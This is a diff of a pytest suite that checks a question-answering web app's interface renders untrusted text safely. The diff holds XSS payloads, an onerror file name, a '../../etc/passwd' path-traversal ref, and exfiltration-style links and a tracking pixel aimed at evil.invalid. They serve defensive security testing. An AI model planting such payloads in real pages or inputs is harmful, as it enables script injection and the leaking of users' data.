@@ -2,119 +2,215 @@
 
 from __future__ import annotations
 
+import json
+from dataclasses import replace
+
 import pytest
+from hostile_strings import STRINGS
+from lxml import html as parser
+from markdown_it import MarkdownIt
 from scripted import Rebuild, Scripted, absent, quoted
 
-from rag.types import Answered, Citation, Draft, Evidence, Near, Retrieved
+from rag.types import Answered, Citation, Claim, Document, Draft, Evidence, Listed, Near, Progress, Retrieved
+from ui import answers, export, render
+from ui.page import articles, pane
+from ui.page.turn import Turn
 
-PAYLOADS = (
-    "<script>window.__hit=1</script>",
-    "<img src=x onerror=window.__hit=2>",
-    "<svg onload=window.__hit=3><a href='javascript:window.__hit=4'>go</a></svg>",
-    "![pixel](http://evil.invalid/q.png?secret)",
-    "[1]: http://evil.invalid/ref 'title'",
-    "[click](http://evil.invalid/link)",
-    "<a style='position:fixed;inset:0' href='http://evil.invalid/cover'>cover</a>",
-    "<form action='http://evil.invalid/form'><input name=p><button>Go</button></form>",
-    "<style>body{display:none}</style><iframe src='http://evil.invalid/frame'></iframe>",
-    "${Object.assign(window,{__hit:5})} {{constructor.constructor('window.__hit=6')()}}",
-    "\"><img src=http://evil.invalid/attr.png onerror='window.__hit=7'><x y=\"",
-    "</mark></div></article><video src=http://evil.invalid/v autoplay></video>",
-    "<button class=un-cite data-ref=t0-c1>1</button> [1] $x$ `code` \\(math\\)",
+OURS = (
+    "#un-earlier, #un-current, #un-pane, #un-report, #un-listing, #un-status, #un-peek, #un-live, #un-asking, #un-scope"
 )
-ALL = " | ".join(PAYLOADS)
-NAME = "<img src=x onerror=window.__hit=8>${window.__hit=9}.txt"
-OURS = "#un-earlier, #un-current, #un-pane, #un-report, #un-listing, #un-status"
 FOUND = f"""() => [...document.querySelectorAll('{OURS}')].flatMap(box => [...box.querySelectorAll('*')]).filter(e =>
-    ['SCRIPT','STYLE','IFRAME','IMG','VIDEO','AUDIO','FORM','INPUT','A','LINK','OBJECT','SVG','svg'].includes(e.tagName)
-    || getComputedStyle(e).position === 'fixed' || [...e.attributes].some(a => a.name.startsWith('on'))
+    ['SCRIPT','STYLE','IFRAME','IMG','VIDEO','AUDIO','FORM','A','LINK','OBJECT','EMBED','BASE','META','H1'].includes(e.tagName)
+    || (e.tagName === 'INPUT' && !e.closest('#un-scope')) || (getComputedStyle(e).position === 'fixed' && !e.matches('#un-scope .options'))
+    || [...e.attributes].some(a => a.name.startsWith('on'))
 ).map(e => e.outerHTML.slice(0, 80))"""
+TAGS = set(
+    "div p span q button ul li h2 strong mark section details summary table thead tbody tr th td pre article".split()
+)
+TAGS |= {"header", "progress"}
+ATTRIBUTES = set(
+    "class data-ref data-refs data-n data-stage data-turn data-act data-active data-order data-source".split()
+)
+ATTRIBUTES |= set("data-what data-step data-only data-back data-remove dir id hidden role scope tabindex type".split())
+ATTRIBUTES |= set("aria-label aria-describedby max value".split())
 
 
 def check(tab):
-    tab.page.wait_for_timeout(150)
     assert tab.page.evaluate("window.__hit") is None
     assert tab.page.evaluate(FOUND) == []
+    assert tab.page.url.rstrip("/") == tab.url
+
+
+def cites(text: str) -> Citation:
+    return Citation(1, text, text, text, 0, len(text), 0.9)
+
+
+def rendered(text: str) -> dict[str, str]:
+    """Every piece of HTML that the server makes out of words that are not its own."""
+    cited, near = cites(text), Near(text, text, 0, len(text), 0.5)
+    body = text.replace("[", "\\[")  # as rag escapes brackets that are the source's own
+    settled = quoted(text, (cited,), text=f"{body} [1]")
+    drafted = replace(settled, claims=(Claim(body, (1,), "supported", "denied"),), model=text)
+    turn = Turn(0, text, (text, "b.txt"), "settled", citations=(cited,), answer=settled)
+    rebuilding = articles.Rebuilding()
+    rebuilding.note(Progress("reading", 1, 2, text, 3))
+    return {
+        "a turn": str(turn.html(last=True)),
+        "a draft": str(answers.draft(text)) + str(answers.evidence((cited,), 0)),
+        "a model's claim": str(answers.answer(drafted, 0)),
+        "an absence": str(answers.answer(absent(text, [near], term=text), 0)),
+        "an error": str(render.problem(text, text)) + str(render.status(text)) + str(render.notice(text)),
+        "an article": pane.pane(list(turn.places()), "t0-c1", lambda s: Document(s, text, text, text, "0")),
+        "a changed article": pane.pane(list(turn.places()), "t0-c1", lambda s: Document(s, "", text, text, "0")),
+        "a list": articles.listing([Listed(text, text, text, 3)], [(text, text)]),
+        "a rebuild": rebuilding.html(),
+    }
+
+
+@pytest.mark.parametrize("number", range(0, 200, 50))
+def test_no_piece_of_html_holds_anything_that_is_not_ours(number):
+    for text in STRINGS[number : number + 50]:
+        for place, markup in rendered(text).items():
+            for element in parser.fragment_fromstring(markup, create_parent="div").iter():
+                assert element.tag in TAGS, (place, text)
+                assert set(element.keys()) <= ATTRIBUTES, (place, text, element.keys())
+            shown = " ".join(parser.fragment_fromstring(markup, create_parent="div").text_content().split())
+            words = " ".join("".join(c for c in text if c.isprintable() or c.isspace()).split())
+            if place == "an error":
+                assert words in " ".join("".join(c for c in shown if c.isprintable() or c.isspace()).split()), text
+
+
+@pytest.mark.parametrize("text", STRINGS[::5])
+def test_what_is_saved_as_markdown_is_text_and_nothing_else(text):
+    saved = export.as_markdown([quoted(text, (cites(text),), text=text.replace("[", "\\[") + " [1]")])
+    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(saved)
+    kinds = {t.type for token in tokens for t in (token, *(token.children or ()))}
+    assert kinds <= {
+        *(f"{name}_{end}" for name in ("heading", "paragraph", "bullet_list", "list_item", "blockquote", "strong")
+          for end in ("open", "close")),
+        *("inline", "text", "text_special"),
+    }  # fmt: skip
+    shown = [
+        "".join(t.content for t in token.children if t.type in ("text", "text_special"))
+        for token in tokens
+        if token.type == "inline"
+    ]
+    assert shown[0] == " ".join(text.split()), "the question stands there as it was asked"
+    assert shown[-1] == " ".join(text.split()), "and so does the quote"
+    assert json.loads(export.as_json([quoted(text, ())]))[0]["question"] == text
 
 
 @pytest.fixture
-def hostile():
-    text = f"{ALL}. A second sentence. {ALL}"
-    return Scripted({NAME: text}, titles={NAME: ALL})
+def library():
+    """One article for each string: that string is its name, its title, and what it says."""
+    documents = {f"{n:03} {text}": f"{text}\n\nA second sentence. {text}" for n, text in enumerate(STRINGS)}
+    return Scripted(documents, titles={name: STRINGS[n] for n, name in enumerate(documents)})
 
 
-def test_everywhere_in_an_answer(serve, visit, hostile):
-    cited = hostile.cite(1, NAME, f"{ALL}.")
-
-    def script(question, history, sources):
-        yield Retrieved(())
-        yield Evidence((cited,))
-        for payload in PAYLOADS:
-            yield Draft(payload)
-        yield Answered(quoted(question, (cited,), text=ALL.replace("[1]", "\\[1]") + " [1]"))
-
-    hostile.script = script
-    tab = visit(serve(hostile))
-    tab.page.locator("#un-scope input").click()
-    tab.page.get_by_role("option").first.click()
-    tab.page.keyboard.press("Escape")
-    tab.ask(ALL)
-    check(tab)
-    shown = tab.page.locator("#un-current .un-answer").inner_text()
-    for payload in PAYLOADS:
-        assert " ".join(payload.split()) in " ".join(shown.split())
-    assert tab.page.locator("#un-current .un-answer .un-cite").count() == 1, "a literal [1] is no citation"
-    tab.page.locator("#un-current .un-answer .un-cite").click()
-    assert tab.page.locator("#un-pane mark").first.text_content() == f"{ALL}."
-    assert tab.page.locator("#un-pane article").count() == 1
-    check(tab)
-
-
-def test_a_stopped_draft_and_an_absence(serve, visit, hostile):
-    near = Near(NAME, ALL, 0, len(ALL), 0.5)
-    hostile.script = lambda q, h, s: iter([Draft(ALL), Evidence(()), Answered(absent(q, [near], term=ALL))])
-    tab = visit(serve(hostile))
-    tab.ask("Anything?")
+def exchange(tab, library, number: int) -> None:
+    """A question, its draft, its quote, its article; then an absence. All of them are one string."""
+    text, name = STRINGS[number], list(library.documents)[number]
+    cited = Citation(1, name, text, text, 0, len(text), 0.9)
+    settled = quoted(text, (cited,), text=text.replace("[", "\\[") + " [1]")
+    turns = [
+        [Retrieved(()), Evidence((cited,)), Draft(text), Answered(settled)],
+        [Evidence(()), Answered(absent(text, [Near(name, text, 0, len(text), 0.5)], term=text))],
+    ]
+    for events in turns:
+        library.script = lambda q, h, s, events=events: iter(events)
+        before = tab.page.locator("#un-current .un-turn").get_attribute("data-turn")
+        tab.ask(text, stage=None)
+        tab.page.wait_for_function(
+            "before => { const t = document.querySelector('#un-current .un-turn');"
+            "return t && t.dataset.stage === 'settled' && t.dataset.turn !== before; }",
+            arg=before,
+        )
+        check(tab)
     tab.page.locator("#un-current summary").click()
-    check(tab)
     tab.page.locator("#un-current .un-open").click()
-    tab.page.locator("#un-pane mark").first.wait_for()
+    tab.page.locator("#un-pane .un-current-mark").first.wait_for()
+    cite = tab.page.locator("#un-earlier .un-turn").last.locator(".un-answer .un-cite")
+    assert cite.count() == 1, "a literal [1] is no citation"
+    cite.hover()
+    tab.page.locator("#un-peek.un-open").wait_for()
+    check(tab)
+    cite.click()
+    tab.page.locator("#un-pane [data-refs].un-current-mark").first.wait_for()
     check(tab)
 
 
-def test_file_names_reasons_and_progress(serve, visit, hostile):
-    rebuild = Rebuild(hostile, skipped=((NAME, ALL),))
-    tab = visit(serve(hostile, rebuild))
+@pytest.mark.parametrize("numbers", [range(0, 200, 23)])
+def test_a_sample_of_strings_in_every_place(serve, visit, library, numbers):
+    _walk(visit(serve(library)), library, numbers)
+
+
+@pytest.mark.long
+@pytest.mark.parametrize("first", range(0, 200, 20))
+def test_every_string_in_every_place(serve, visit, library, first):
+    _walk(visit(serve(library)), library, range(first, first + 20))
+
+
+def _walk(tab, library, numbers) -> None:
+    for count, number in enumerate(numbers):
+        exchange(tab, library, number) if count else _first(tab, library, number)
+
+
+def _first(tab, library, number: int) -> None:
+    """The lists of articles, then the first question, which no turn precedes."""
+    tab.page.locator("#un-scope input").click()
+    tab.page.get_by_role("option").first.wait_for()
+    check(tab)
+    tab.page.get_by_role("option").first.click()
+    tab.page.locator("#un-scope .token").wait_for()
+    check(tab)
+    tab.page.locator("#un-scope input").press("Backspace")
+    tab.page.keyboard.press("Escape")
+    tab.page.get_by_role("tab", name="Articles").click()
+    assert tab.page.locator("#un-listing li").count() == len(STRINGS)
+    check(tab)
+    tab.page.get_by_role("tab", name="Ask").click()
+    library.script = library.first_sentences
+    tab.ask("Hello?", stage=None)
+    tab.page.locator("#un-current .un-turn").wait_for()
+    exchange(tab, library, number)
+
+
+def test_file_names_reasons_and_progress(serve, visit):
+    name, reasons = "<img src=x onerror=window.__hit=8>${window.__hit=9}.txt", " | ".join(STRINGS[::7])
+    rebuild = Rebuild(skipped=((name, reasons),), paused=True)
+    tab = visit(serve(Scripted({name: reasons}, titles={name: reasons}, rebuild=rebuild)))
     tab.page.get_by_role("tab", name="Articles").click()
     tab.page.locator("#un-files input[type=file]").set_input_files(
-        {"name": NAME, "mimeType": "text/plain", "buffer": ALL.encode()}
+        {"name": name, "mimeType": "text/plain", "buffer": reasons.encode()}
     )
-    tab.page.wait_for_timeout(600)
-    tab.page.locator("#un-add").click()
     assert rebuild.started.wait(10)
+    tab.page.locator("#un-report progress").wait_for()
     check(tab)
     rebuild.go.set()
     tab.page.locator("#un-report .un-skipped").wait_for()
-    assert PAYLOADS[0] in tab.page.locator("#un-report").inner_text()
+    assert STRINGS[0] in tab.page.locator("#un-report").inner_text()
     check(tab)
 
 
-def test_a_ref_of_nowhere_opens_nothing(serve, visit, hostile):
-    tab = visit(serve(hostile))
+def test_a_ref_of_nowhere_opens_nothing(serve, visit):
+    tab = visit(serve(Scripted({"a.txt": "One. Two."})))
     tab.ask("Anything?")
     before = tab.page.locator("#un-pane").inner_text()
     tab.page.evaluate(
-        """() => { const b = document.createElement('button'); b.dataset.ref = '../../etc/passwd';
+        """() => { const b = document.createElement('button'); b.dataset.ref = '../../etc/passwd"]';
         document.querySelector('#un-current .un-turn').append(b); b.click(); }"""
     )
+    tab.page.wait_for_timeout(300)
     check(tab)
     assert tab.page.locator("#un-pane").inner_text() == before
 
 
 def test_offsets_outside_the_article_are_not_marked(serve, visit):
     assistant = Scripted({"a.txt": "Short."})
-    wrong = Citation(1, "a.txt", None, "Short.", 2, 9_000, 0.9)
+    wrong = Citation(1, "a.txt", None, "Never said.", 2, 9_000, 0.9)
     assistant.script = lambda q, h, s: iter([Evidence((wrong,)), Answered(quoted(q, (wrong,)))])
     tab = visit(serve(assistant))
     tab.ask("Anything?")
     assert tab.page.locator("#un-pane .un-text").text_content() == "Short."
+    assert tab.page.locator("#un-pane mark").count() == 0
+    assert "it no longer says: Never said." in tab.page.locator("#un-pane").inner_text()
